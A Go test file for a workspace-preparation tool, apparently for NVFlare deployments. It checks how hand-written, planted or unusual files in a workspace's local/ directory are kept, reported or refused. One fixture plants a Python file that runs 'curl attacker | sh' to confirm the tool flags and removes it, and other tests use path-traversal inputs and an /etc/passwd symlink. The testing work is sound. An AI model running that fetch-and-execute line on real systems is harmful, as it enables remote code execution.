package prepare

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/flare-slurm/flare-slurm/generator/prepare/staging"
	"github.com/flare-slurm/flare-slurm/internal/errcode"
	"github.com/flare-slurm/flare-slurm/schema"
)

// writeWS writes content at the slash path rel of the workspace out.
func writeWS(t *testing.T, out, rel, content string) {
	t.Helper()
	p := filepath.Join(out, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// changes lists Drift changes as "path kind: detail".
func changes(cs []Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Path+" "+string(c.Kind)+": "+c.Detail)
	}
	return out
}

// TestLocalWorkIsKept (issue 25 item 2): examples/study_runtime.yaml says to
// put a study runtime in the workspace's local/; the next prepare replaced
// it with the empty template, silently. What a person wrote in local/ is
// carried into the new workspace and named in a warning, for a client and
// a server workspace; what prepare wrote there and nobody edited is
// replaced by the new kit's (a re-provisioned kit's
// authorization.json.default reaches the workspace); prepare --check
// reports every kept file, the study admin's study_runtime.yaml as no
// drift, the others as drift unless named with --keep-local; what prepare
// writes from the config stays prepare's.
func TestLocalWorkIsKept(t *testing.T) {
	for _, kit := range []string{"site-1", "server"} {
		t.Run(kit, func(t *testing.T) {
			f := newFixture(t, kit, bareConfig)
			os.Remove(filepath.Join(f.kit, "local", "study_runtime.yaml")) // the kit has none: prepare writes the template
			out := filepath.Join(f.dir, "ws")
			f.run(t, out)
			template := string(readFile(t, filepath.Join(out, "local", "study_runtime.yaml")))

			// Nothing of a workspace nobody touched is a person's.
			if r := f.run(t, out); len(r.Kept) != 0 {
				t.Errorf("kept %v from an untouched workspace", r.Kept)
			}

			study := "format_version: 2\nstudies:\n  s1:\n    env:\n      MODE: fast\n"
			written := map[string]string{
				"local/study_runtime.yaml":     study,
				"local/notes.txt":              "ask the study admin before changing s1\n",
				"local/custom/my_component.py": "X = 1\n",
			}
			for rel, content := range written {
				writeWS(t, out, rel, content)
			}
			// prepare's copy of a kit file, edited by a person, is theirs.
			logConfig := filepath.Join(out, "local", "log_config.json.default")
			editedLog := string(readFile(t, logConfig)) + "\n"
			writeWS(t, out, "local/log_config.json.default", editedLog)
			// A hand edit of a file prepare writes from the config is not kept.
			res := filepath.Join(out, "local", "resources.json.default")
			if err := os.WriteFile(res, append(readFile(t, res), ' '), 0o644); err != nil {
				t.Fatal(err)
			}

			// The kit is re-provisioned (its authorization policy changes),
			// and the config changes.
			newAuth := `{"format_version": "1.0", "permissions": {"project_admin": "any"}}` + "\n"
			writeKitFile(t, f, "local/authorization.json.default", newAuth)
			f.writeConfig(t, bareConfig+"  poll_interval: 20\n")
			r := f.run(t, out)
			warnings := strings.Join(r.Warnings, "\n")
			for rel, content := range written {
				if got := string(readFile(t, filepath.Join(out, filepath.FromSlash(rel)))); got != content {
					t.Errorf("%s: %q after re-prepare, want what the person wrote", rel, got)
				}
				if !slices.Contains(r.Kept, rel) || !strings.Contains(warnings, "kept "+rel+" from the workspace "+out+" (") {
					t.Errorf("%s: not named as kept: %v %q", rel, r.Kept, r.Warnings)
				}
			}
			for _, want := range []string{
				"kept local/study_runtime.yaml from the workspace " + out + " (the study admin's, where the kit has none; edited since prepare wrote it)",
				"kept local/notes.txt from the workspace " + out + " (not written by prepare)",
				"kept local/log_config.json.default from the workspace " + out + " (it differs from the kit's; delete it from the workspace, or copy it into the kit, to take the kit's; edited since prepare wrote it)",
			} {
				if !strings.Contains(warnings, want) {
					t.Errorf("warnings lack %q:\n%s", want, warnings)
				}
			}
			if got := string(readFile(t, logConfig)); got != editedLog {
				t.Error("the edited log_config.json.default was replaced by the kit's")
			}
			if got := string(readFile(t, filepath.Join(out, "local", "authorization.json.default"))); got != newAuth {
				t.Errorf("authorization.json.default %q: prepare kept its own old copy of the kit file instead of the new kit's", got)
			}
			if slices.Contains(r.Kept, "local/authorization.json.default") {
				t.Errorf("kept %v: authorization.json.default was prepare's", r.Kept)
			}
			if got := string(readFile(t, res)); !strings.Contains(got, `"poll_interval": 20.0`) {
				t.Error("resources.json.default was not rewritten from the new config")
			}

			// prepare --check: every kept file is reported; the study
			// admin's is no drift, the rest is.
			d, err := Diff(f.render(t, out))
			if err != nil {
				t.Fatal(err)
			}
			wantDrift := []string{
				"local/custom/my_component.py kept: kept: not written by prepare (a re-prepare keeps it; drift: if it belongs there, name it with --keep-local local/custom/my_component.py)",
				"local/log_config.json.default kept: kept: edited since prepare wrote it (a re-prepare keeps it; drift: if it belongs there, name it with --keep-local local/log_config.json.default)",
				"local/notes.txt kept: kept: not written by prepare (a re-prepare keeps it; drift: if it belongs there, name it with --keep-local local/notes.txt)",
			}
			if got := changes(d.Changes); !slices.Equal(got, wantDrift) {
				t.Errorf("drift after re-prepare:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(wantDrift, "\n"))
			}
			wantKept := []string{"local/study_runtime.yaml kept: kept: edited since prepare wrote it (a re-prepare keeps it; not drift: the study admin's file)"}
			if got := changes(d.Kept); !slices.Equal(got, wantKept) {
				t.Errorf("accepted kept files %q, want %q", got, wantKept)
			}
			for _, line := range []string{
				"Kept: ws/local/custom/my_component.py (not written by prepare; a re-prepare keeps it)\n",
				"Kept: ws/local/log_config.json.default (edited since prepare wrote it; a re-prepare keeps it)\n",
			} {
				if !strings.Contains(d.Text, line) {
					t.Errorf("diff lacks %q:\n%s", line, d.Text)
				}
			}
			if strings.Contains(d.Text, "study_runtime.yaml") {
				t.Errorf("the accepted study_runtime.yaml is in the diff text:\n%s", d.Text)
			}
			// --keep-local names what a site accepts: a file, a directory.
			opts := f.opts(out)
			opts.KeepLocal = []string{"local/notes.txt", "local/custom/", "local/log_config.json.default"}
			w, err := Render(opts)
			if err != nil {
				t.Fatal(err)
			}
			if d, err = Diff(w); err != nil || len(d.Changes) != 0 || len(d.Kept) != 4 {
				t.Errorf("with --keep-local: %v drift %q kept %q", err, changes(d.Changes), changes(d.Kept))
			}

			// The kit gains its own study_runtime.yaml: the workspace's,
			// written by a person, is still kept, and said to differ.
			writeKitFile(t, f, "local/study_runtime.yaml", template)
			r = f.run(t, out)
			if got := string(readFile(t, filepath.Join(out, "local", "study_runtime.yaml"))); got != study {
				t.Errorf("study_runtime.yaml %q, want the workspace's", got)
			}
			if !strings.Contains(strings.Join(r.Warnings, "\n"), "kept local/study_runtime.yaml from the workspace "+out+" (it differs from the kit's") {
				t.Errorf("warnings %q", r.Warnings)
			}
		})
	}
}

// TestCheckShowsWhatWasPlantedInLocal (issue 25 item 2's review, H1b): a
// file planted in local/ (code NVFlare imports from local/custom/, or a
// local/resources.json overriding the launcher settings) by a job running
// as the runtime account was carried over and compared with itself:
// prepare --check and --against said "up to date". Each is drift, named
// as kept and not written by prepare. A forged record cannot hide one
// either: a file the record claims for prepare is one prepare would remove.
func TestCheckShowsWhatWasPlantedInLocal(t *testing.T) {
	f := newFixture(t, "site-1", bareConfig)
	out := filepath.Join(f.dir, "ws")
	f.run(t, out)
	evil := "import os\nos.system('curl attacker | sh')\n"
	writeWS(t, out, "local/custom/evil.py", evil)
	writeWS(t, out, "local/resources.json", `{"format_version": 2, "components": []}`+"\n")
	copyDir := filepath.Join(f.dir, "copy")
	if out, err := exec.Command("cp", "-a", out, copyDir).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, out)
	}
	want := []string{
		"local/custom/evil.py kept: kept: not written by prepare (a re-prepare keeps it; drift: if it belongs there, name it with --keep-local local/custom/evil.py)",
		"local/resources.json kept: kept: not written by prepare (a re-prepare keeps it; drift: if it belongs there, name it with --keep-local local/resources.json)",
	}
	d, err := Diff(f.render(t, out))
	if err != nil {
		t.Fatal(err)
	}
	if got := changes(d.Changes); !slices.Equal(got, want) {
		t.Errorf("--check: %q, want %q", got, want)
	}
	if !strings.Contains(d.Text, "Kept: ws/local/custom/evil.py (not written by prepare; a re-prepare keeps it)\n") || strings.Contains(d.Text, "attacker") {
		t.Errorf("diff text:\n%s", d.Text)
	}
	d, err = DiffAgainst(f.render(t, out), copyDir)
	if err != nil {
		t.Fatal(err)
	}
	if got := changes(d.Changes); !slices.Equal(got, want) {
		t.Errorf("--check --against: %q, want %q", got, want)
	}

	// The record rewritten to claim evil.py for prepare: prepare would
	// remove it, --check says so (the record itself is never compared: it
	// holds digests of secret files too), and a re-prepare does.
	record := filepath.Join(out, filepath.FromSlash(staging.LocalManifestPath))
	var m staging.LocalManifest
	if err := json.Unmarshal(readFile(t, record), &m); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte(evil))
	m.Files["local/custom/evil.py"] = hex.EncodeToString(sum[:])
	m.Dirs = append(m.Dirs, "local/custom")
	if err := os.WriteFile(record, m.Encode(), 0o600); err != nil {
		t.Fatal(err)
	}
	if d, err = Diff(f.render(t, out)); err != nil {
		t.Fatal(err)
	}
	kinds := map[string]ChangeKind{}
	for _, c := range d.Changes {
		kinds[c.Path] = c.Kind
	}
	if kinds["local/custom"] != Removed || kinds["local/resources.json"] != Kept || len(d.Changes) != 2 {
		t.Errorf("with a forged record: %q", changes(d.Changes))
	}
	r := f.run(t, out)
	if _, err := os.Lstat(filepath.Join(out, "local", "custom", "evil.py")); !os.IsNotExist(err) {
		t.Errorf("evil.py survived a re-prepare (kept %v)", r.Kept)
	}
}

// TestLocalEntriesPrepareCannotKeepAreRefused (issue 25 item 2's review,
// M1): a symlink (a plausible way to share a study file), a named pipe, a
// person's directory where the kit now has a file and a person's file where
// it now has a directory were dropped without a word. prepare refuses,
// naming each and the fix, follows no link, writes nothing; --check fails
// the same way. A person's empty directory is kept.
func TestLocalEntriesPrepareCannotKeepAreRefused(t *testing.T) {
	for _, kit := range []string{"site-1", "server"} {
		t.Run(kit, func(t *testing.T) {
			f := newFixture(t, kit, bareConfig)
			out := filepath.Join(f.dir, "ws")
			f.run(t, out)
			shared := filepath.Join(f.dir, "shared-study.yaml")
			if err := os.WriteFile(shared, []byte("format_version: 2 # SHARED-CONTENT-7f3a\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			local := filepath.Join(out, "local")
			if err := os.Symlink(shared, filepath.Join(local, "my_study.yaml")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(f.dir, filepath.Join(local, "data")); err != nil {
				t.Fatal(err)
			}
			if err := syscall.Mkfifo(filepath.Join(local, "pipe"), 0o600); err != nil {
				t.Fatal(err)
			}
			writeWS(t, out, "local/notes/a.txt", "mine\n")
			writeKitFile(t, f, "local/notes", "the kit's\n")
			writeWS(t, out, "local/extra.d", "mine\n")
			writeKitFile(t, f, "local/extra.d/x.conf", "the kit's\n")
			before := digest(t, out)

			for _, step := range []struct {
				name string
				run  func() error
			}{
				{"prepare", func() error { _, err := Run(context.Background(), f.opts(out)); return err }},
				{"check", func() error { _, err := Diff(f.render(t, out)); return err }},
			} {
				err := returnsWithin(t, step.run, step.name+" hangs on the named pipe in local/")
				pe := wantCode(t, err, errcode.LocalRefused)
				if pe.Message != "the workspace "+out+" holds 5 path(s) in local/ that prepare cannot keep" || pe.Hint != hintFixProblems {
					t.Errorf("%s: %q (%q)", step.name, pe.Message, pe.Hint)
				}
				text := pe.Problems.Error()
				for _, want := range []string{
					local + `/my_study.yaml: symlink (to "` + shared + `") in local/, which prepare did not write; prepare keeps the regular files and directories a person wrote there and never follows a link (replace the link by a copy of the file it points to, or move it out of the workspace; nothing was written)`,
					local + `/data: symlink (to "` + f.dir + `")`,
					local + "/pipe: named pipe (FIFO) in local/, which prepare did not write; prepare keeps the regular files and directories a person wrote there (move it out of the workspace (or delete it); nothing was written)",
					local + "/notes: a directory holding what prepare did not write (local/notes/a.txt), where the new workspace has a file; prepare would have to drop one of them (move it out of the workspace (or take the entry out of the kit), then re-run prepare; nothing was written)",
					local + "/extra.d: a file not written by prepare, where the new workspace has a directory; prepare would have to drop one of them",
				} {
					if !strings.Contains(text, want) {
						t.Errorf("%s: problems lack %q:\n%s", step.name, want, text)
					}
				}
				if strings.Contains(text, "SHARED-CONTENT") {
					t.Errorf("%s read what a link points to:\n%s", step.name, text)
				}
				assertUntouched(t, out, before)
			}

			// The fixes: the link replaced by the file, the rest moved away.
			// A person's empty directory is kept, with its mode.
			for _, p := range []string{"my_study.yaml", "data", "pipe", "notes", "extra.d"} {
				if err := os.RemoveAll(filepath.Join(local, p)); err != nil {
					t.Fatal(err)
				}
			}
			writeWS(t, out, "local/my_study.yaml", string(readFile(t, shared)))
			if err := os.MkdirAll(filepath.Join(local, "empty", "inner"), 0o750); err != nil {
				t.Fatal(err)
			}
			r := f.run(t, out)
			if got := string(readFile(t, filepath.Join(local, "my_study.yaml"))); !strings.Contains(got, "SHARED-CONTENT") {
				t.Errorf("my_study.yaml %q", got)
			}
			if st, err := os.Stat(filepath.Join(local, "empty", "inner")); err != nil || st.Mode().Perm() != 0o750 {
				t.Errorf("the empty directory: %v %v", st, err)
			}
			if !slices.Equal(r.Kept, []string{"local/empty/inner/", "local/my_study.yaml"}) {
				t.Errorf("kept %q", r.Kept)
			}
			d, err := Diff(f.render(t, out))
			if err != nil {
				t.Fatal(err)
			}
			if got := changes(d.Kept); !slices.Equal(got, []string{"local/empty/inner kept: kept: not written by prepare (a re-prepare keeps it; not drift: an empty directory)"}) {
				t.Errorf("accepted %q", got)
			}
			if got := changes(d.Changes); len(got) != 1 || !strings.HasPrefix(got[0], "local/my_study.yaml kept: kept: not written by prepare") {
				t.Errorf("drift %q", got)
			}
		})
	}
}

// TestKeptFilesCountAgainstTheSizeBounds (issue 25 item 2's review, M2):
// kept files skipped the kit's bounds, so `truncate -s 3G ws/local/big.bin`
// made a re-prepare write 3.1 GB. They count against the same bounds,
// checked before anything is copied.
func TestKeptFilesCountAgainstTheSizeBounds(t *testing.T) {
	f := newFixture(t, "site-1", bareConfig)
	out := filepath.Join(f.dir, "ws")
	f.run(t, out)
	sparse := func(rel string, size int64) {
		t.Helper()
		p := filepath.Join(out, filepath.FromSlash(rel))
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Truncate(p, size); err != nil {
			t.Fatal(err)
		}
	}
	sparse("local/big.bin", 3<<30)
	before := digest(t, out)
	_, err := Run(context.Background(), f.opts(out))
	pe := wantCode(t, err, errcode.LocalRefused)
	if want := filepath.Join(out, "local", "big.bin") + ": is 3221225472 bytes; prepare keeps files of at most 536870912 bytes (512 MiB) from local/, as from a kit"; !strings.Contains(pe.Problems.Error(), want) {
		t.Errorf("problems %s", pe.Problems.Error())
	}
	assertUntouched(t, out, before)

	// Each below the file bound, more than the total bound together.
	if err := os.Remove(filepath.Join(out, "local", "big.bin")); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"a", "b", "c", "d", "e"} {
		sparse("local/part-"+n+".bin", schema.MaxKitFileBytes-1)
	}
	before = digest(t, out)
	_, err = Run(context.Background(), f.opts(out))
	pe = wantCode(t, err, errcode.LocalRefused)
	if want := filepath.Join(out, "local") + ": the kit's files and the files kept from local/ hold "; !strings.Contains(pe.Problems.Error(), want) ||
		!strings.Contains(pe.Problems.Error(), "bytes; prepare copies at most 2147483648 bytes (2 GiB)") {
		t.Errorf("problems %s", pe.Problems.Error())
	}
	assertUntouched(t, out, before)
}

// TestWorkspaceWithoutARecordKeepsEverything: a workspace prepared before
// prepare recorded what it writes (or whose record is unusable) cannot
// tell a person's file from prepare's copy of an earlier kit's: every file
// that differs from the new workspace's is kept, as before the record, and
// one warning says so. The new workspace has a record.
func TestWorkspaceWithoutARecordKeepsEverything(t *testing.T) {
	for name, spoil := range map[string]func(record string) error{
		"none":    os.Remove,
		"garbage": func(record string) error { return os.WriteFile(record, []byte("{not json"), 0o600) },
		"symlink": func(record string) error {
			if err := os.Remove(record); err != nil {
				return err
			}
			return os.Symlink("/etc/passwd", record)
		},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t, "site-1", bareConfig)
			out := filepath.Join(f.dir, "ws")
			f.run(t, out)
			record := filepath.Join(out, filepath.FromSlash(staging.LocalManifestPath))
			if err := spoil(record); err != nil {
				t.Fatal(err)
			}
			oldAuth := string(readFile(t, filepath.Join(out, "local", "authorization.json.default")))
			writeKitFile(t, f, "local/authorization.json.default", "{}\n")
			r := f.run(t, out)
			if got := string(readFile(t, filepath.Join(out, "local", "authorization.json.default"))); got != oldAuth {
				t.Errorf("authorization.json.default %q, want the old workspace's", got)
			}
			if !slices.Equal(r.Kept, []string{"local/authorization.json.default"}) {
				t.Errorf("kept %q", r.Kept)
			}
			var notes []string
			for _, w := range r.Warnings {
				if strings.Contains(w, "every file there that differs from the new workspace's is kept as a person's") {
					notes = append(notes, w)
				}
			}
			want := "holds no record of what prepare wrote into its local/ (" + record
			if name != "none" {
				want = "the record of what prepare wrote into the local/ of " + out + " (" + record + ") cannot be used: "
			}
			if len(notes) != 1 || !strings.Contains(notes[0], want) {
				t.Errorf("notes %q, want one saying %q", notes, want)
			}
			if !strings.Contains(strings.Join(r.Warnings, "\n"), "kept local/authorization.json.default from the workspace "+out+" (it differs from the kit's; delete it from the workspace, or copy it into the kit, to take the kit's; "+keptUnrecorded+")") {
				t.Errorf("warnings %q", r.Warnings)
			}
			if st, err := os.Lstat(record); err != nil || !st.Mode().IsRegular() {
				t.Errorf("the new workspace has no record: %v", err)
			}
		})
	}
}

// TestKeptFileChangedWhilePrepareRuns (issue 25 item 2's review, L4): a
// kept file swapped for a named pipe after the scan fails the prepare,
// saying that the workspace changed, not the kit.
func TestKeptFileChangedWhilePrepareRuns(t *testing.T) {
	f := newFixture(t, "site-1", bareConfig)
	out := filepath.Join(f.dir, "ws")
	f.run(t, out)
	writeWS(t, out, "local/notes.txt", "mine\n")
	ws := f.render(t, out)
	if err := ws.carryLocal(out); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(out, "local", "notes.txt")
	if err := os.Remove(victim); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(victim, 0o600); err != nil {
		t.Fatal(err)
	}
	before := digest(t, out)
	pe := wantCode(t, write(context.Background(), ws), errcode.PrepareFailed)
	if want := "the workspace changed while prepare ran: " + victim + ", kept from its local/, is now a named pipe (FIFO); prepare keeps regular files only"; pe.Message != want {
		t.Errorf("message %q, want %q", pe.Message, want)
	}
	if !strings.Contains(pe.Hint, "nothing writes in the workspace's local/") || !strings.Contains(pe.Hint, "the output was not changed") {
		t.Errorf("hint %q", pe.Hint)
	}
	assertUntouched(t, out, before)
}

// TestKeepLocalPaths: --keep-local takes clean paths under local/.
func TestKeepLocalPaths(t *testing.T) {
	for p, ok := range map[string]bool{
		"local/notes.txt": true, "local/custom": true, "local/custom/": true,
		"": false, "local": false, "local/": false, "/abs/local/x": false, "notes.txt": false,
		"startup/client.key": false, "local/../startup/client.key": false, "local//x": false, "local/./x": false,
	} {
		if got := CheckKeepLocal(p) == ""; got != ok {
			t.Errorf("CheckKeepLocal(%q) = %q", p, CheckKeepLocal(p))
		}
	}
}

// returnsWithin runs run and returns its error, failing t with hang when it has
// not returned within 20 seconds (a named pipe opened for reading blocks).
func returnsWithin(t *testing.T, run func() error, hang string) error {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- run() }()
	select {
	case err := <-done:
		return err
	case <-time.After(20 * time.Second):
		t.Fatal(hang)
	}
	return nil
}
